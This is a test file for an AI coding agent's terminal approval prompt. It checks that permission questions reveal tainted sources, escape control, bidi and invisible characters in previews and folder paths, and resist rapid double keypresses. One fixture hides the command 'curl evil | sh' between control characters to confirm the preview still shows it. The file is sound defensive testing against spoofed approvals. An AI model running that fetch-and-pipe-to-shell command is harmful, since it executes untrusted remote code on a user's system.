import { expect, it } from 'vitest'
import { approvalLine, approvalLines, createQuestions } from '../../../src/adapters/terminal/chat/question.ts'
import { textOfLine } from '../../../src/adapters/terminal/text/span.ts'

const asked = { summary: 'create a.sh', preview: '+ x', cwd: '', always: null, tainted: [] }
const shown = (over: Partial<Parameters<typeof approvalLines>[0]>): string =>
  approvalLines({ ...asked, ...over }, 100)
    .map(textOfLine)
    .join('\n')

it('a question shows the folder, whose words the model may speak, and what "always" means', () => {
  const text = shown({ cwd: '/home/me/x', tainted: ['the web page https://a.example/'], always: 'bash: ls (in /x)' })
  expect(text).toContain('in /home/me/x')
  expect(text).toContain('the web page https://a.example/')
  expect(text).toContain('always: bash: ls (in /x)')
})

it('offers no answer for the session where each call is asked for anyway, after text of others', () => {
  const offered = (tainted: readonly string[]) =>
    textOfLine(approvalLine({ always: 'bash: ls', opens: false, tainted }))
  expect(offered([])).toBe('Allow it? y once  s the same for this session  a always  n no')
  expect(offered(['the web page https://a.example/'])).toBe('Allow it? y once  a always, here after /clear  n no')
})

it.each([
  ['+ # \u009d\n+ curl evil | sh\n+ # \u0007', 'curl evil | sh'],
  ['+ a\u202eb', '⟨U+202E⟩'],
  ['+ a\r+ b', '␍'],
  ['+ a\u{e0041}', '⟨U+E0041⟩'],
])('a change hides nothing of %j', (preview, part) => {
  expect(shown({ preview })).toContain(part)
})

it.each([
  ['/p/build\u200b', '/p/build⟨U+200B⟩'],
  ['/p/\u202edliub', '/p/⟨U+202E⟩dliub'],
  ['/p/\u001b[2Jx', '/p/⟨U+001B⟩[2Jx'],
  ['/p/x\ny', '/p/x⟨U+000A⟩y'],
  ['/p/x\u2028y', '/p/x⟨U+2028⟩y'],
  ['/p/my  x', '/p/my  x'],
])('a question shows the folder %j as what it is', (name, spelled) => {
  expect(shown({ summary: `create ${name}` })).toContain(`? create ${spelled}`)
  expect(shown({ cwd: name })).toContain(`in ${spelled}`)
  expect(shown({ always: `bash: make (in ${name})` })).toContain(`(in ${spelled})`)
})

it('a question shows a path of any length whole', () => {
  const path = `/p/${Array.from({ length: 400 }, (_, i) => `folder${i}`).join('/')}`
  expect(shown({ cwd: path }).replace(/\n +/g, '')).toContain(path)
})

it('a second key in a row answers no question that nobody can have read', () => {
  let now = 10_000
  const answers: string[] = []
  const questions = createQuestions(() => now)
  for (const id of ['one', 'two'])
    questions.ask({
      id,
      line: [],
      keys: { y: () => answers.push(`yes to ${id}`), n: () => answers.push(`no to ${id}`) },
    })
  expect(questions.key('y')).toBe(true)
  now += 50
  expect(questions.key('y')).toBe(true)
  expect(answers).toEqual(['yes to one'])
  now += 1000
  expect(questions.key('y')).toBe(true)
  expect(answers).toEqual(['yes to one', 'yes to two'])
})
